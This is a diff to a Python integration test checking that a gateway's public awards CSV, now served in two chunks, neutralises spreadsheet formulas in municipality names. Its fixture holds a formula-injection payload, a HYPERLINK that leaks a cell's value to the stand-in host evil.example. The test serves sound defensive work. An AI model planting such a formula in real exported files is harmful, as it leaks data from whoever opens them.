@@ -1,6 +1,6 @@
 """GatewayService in a nameko container (real RabbitMQ, FerretDB, HTTP): the
-public palmarès CSV never carries a live spreadsheet formula, whatever a
-collectivité is called (services/common/csvsafe.py)."""
+public palmarès CSV, read chunk by chunk, never carries a live spreadsheet
+formula, whatever a collectivité is called (services/common/csvsafe.py)."""
 
 import csv
 import io
@@ -19,26 +19,30 @@ INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
 
 
 class FakeAwards:
-    """Answers the palmarès rows as the awards service would, with a hostile name."""
+    """Answers a released palmarès as the awards service would, in two chunks
+    of rows, with a hostile name."""
 
     name = "awards"
 
     @rpc
-    def palmares_rows(self, year, role):
-        return [
-            [
-                "annee",
-                "code_insee",
-                "collectivite",
-                "categorie",
-                "region",
-                "departement",
-                "arobases",
-                "mentions",
-            ],
-            [year, "25056", INJECTED, "ville", "+Bourgogne", "-25", 4, "@Télétravail"],
-            [year, "38185", "Grenoble", "ville", "Auvergne-Rhône-Alpes", "38", 5, ""],
+    def palmares(self, year, role=None, region=None, lines=True):
+        return {"year": year, "draft": False, "labelled": [], "stats": {}, "chunks": 2}
+
+    @rpc
+    def palmares_rows(self, year, role=None, chunk=None):
+        header = [
+            "annee",
+            "code_insee",
+            "collectivite",
+            "categorie",
+            "region",
+            "departement",
+            "arobases",
+            "mentions",
         ]
+        if chunk == 0:
+            return [header, [year, "25056", INJECTED, "ville", "+Bourgogne", "-25", 4, "@Télétravail"]]
+        return [[year, "38185", "Grenoble", "ville", "Auvergne-Rhône-Alpes", "38", 5, ""]]
 
 
 @pytest.fixture
@@ -66,5 +70,5 @@ def test_the_palmares_csv_neutralises_formulas(gateway):
     assert response.headers["Content-Type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
     assert rows[1] == ["2031", "25056", "'" + INJECTED, "ville", "'+Bourgogne", "'-25", "4", "'@Télétravail"]
-    assert rows[2][2] == "Grenoble"
+    assert rows[0][0] == "annee" and rows[2][2] == "Grenoble" and len(rows) == 3
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
